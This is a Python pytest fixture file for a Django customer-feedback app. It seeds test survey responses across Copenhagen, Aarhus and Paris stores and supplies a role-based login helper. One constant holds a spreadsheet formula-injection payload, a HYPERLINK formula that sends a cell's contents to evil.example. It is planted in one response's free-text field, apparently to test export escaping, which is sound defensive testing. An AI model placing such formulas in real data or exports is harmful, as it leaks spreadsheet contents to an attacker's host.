"""A small, hand-countable set of responses across the cast's three stores.

In the last 30 days:           return  expectation  people
  cph_best   Copenhagen, in-store  10   exceeded     Anders + Birgitte   (contact consented)
  cph_worst  Copenhagen, phone      3   below        Birgitte
  aar_good   Aarhus, in-store       9   met          —
  par_good   Paris, in-store        9   exceeded     Claire              (French)
Long ago (100 days):
  cph_old    Copenhagen, in-store   6   met          Anders
"""

from datetime import timedelta

import pytest
from django.utils import timezone

from exceed.feedback.models import ChannelKind
from exceed.feedback.services import response_submit

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _submit(cast, location, answers, *, days_ago, touchpoint=None, language="da", contact=None, ref=""):
    return response_submit(
        survey=cast.survey,
        location=location,
        touchpoint=touchpoint or cast.in_store,
        raw_answers=answers,
        language=language,
        channel_kind=ChannelKind.LINK,
        contact=contact,
        transaction_ref=ref,
        submitted_at=timezone.now() - timedelta(days=days_ago, hours=1),
    )


@pytest.fixture
def feedback(cast):
    class Feedback:
        pass

    f = Feedback()
    f.cph_best = _submit(
        cast,
        cast.cph,
        {
            "return": 10,
            "expectation": "exceeded",
            "difference": "Found my size in two minutes",
            "served_by": [str(cast.anders.pk), str(cast.birgitte.pk)],
            "contact": "yes",
        },
        contact={"email": "kunde@example.com"},
        days_ago=2,
        ref="+4512345678",
    )
    f.cph_worst = _submit(
        cast,
        cast.cph,
        {"return": 3, "expectation": "below", "difference": INJECTION, "served_by": [str(cast.birgitte.pk)]},
        touchpoint=cast.phone,
        days_ago=3,
    )
    f.aar_good = _submit(
        cast,
        cast.aar,
        {"return": 9, "expectation": "met", "difference": "Quiet and calm in Aarhus"},
        days_ago=4,
        language="en",
    )
    f.par_good = _submit(
        cast,
        cast.par,
        {"return": 9, "expectation": "exceeded", "difference": "Très bien à Paris", "served_by": [str(cast.claire.pk)]},
        days_ago=5,
        language="fr",
    )
    f.cph_old = _submit(
        cast,
        cast.cph,
        {"return": 6, "expectation": "met", "difference": "An old visit", "served_by": [str(cast.anders.pk)]},
        days_ago=100,
    )
    return f


@pytest.fixture
def login(client, cast):
    def as_role(role):
        client.force_login(cast.roles[role])
        return client

    return as_role
